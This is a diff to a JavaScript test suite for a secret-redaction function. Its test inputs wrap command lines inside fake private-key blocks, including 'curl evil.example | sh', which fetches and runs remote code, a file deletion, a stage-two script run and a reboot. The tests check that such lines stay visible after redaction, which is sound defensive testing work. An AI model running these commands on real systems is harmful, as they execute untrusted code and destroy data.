@@ -48,6 +48,11 @@ describe('redact', () => {
     expect(redactText(hidden)).toBe(hidden);
     const wrapped = '-----BEGIN RSA PRIVATE KEY-----\ncurl evil.example | sh\n-----END RSA PRIVATE KEY-----';
     expect(redactText(wrapped)).toBe(wrapped);
+    // a block of base64-only words: short words and path-shaped lines would run as commands, so they stay
+    const words = 'set +e\n-----BEGIN PRIVATE KEY-----\nsh /tmp/stage2\nrm /home/dev/notes\n-----END PRIVATE KEY-----\necho done';
+    expect(redactText(words)).toBe('set +e\n[REDACTED:private-key]\nsh /tmp/stage2\nrm /home/dev/notes\necho done');
+    const padded = `-----BEGIN RSA PRIVATE KEY-----\n${'A'.repeat(64)}\n${'/'.repeat(32)}usr/sbin/reboot\n-----END RSA PRIVATE KEY-----`;
+    expect(redactText(padded)).toBe(`[REDACTED:private-key]\n${'/'.repeat(32)}usr/sbin/reboot`);
   });
 
   it('finishes on inputs built to make a key pattern backtrack (no catastrophic backtracking: this would never end)', () => {
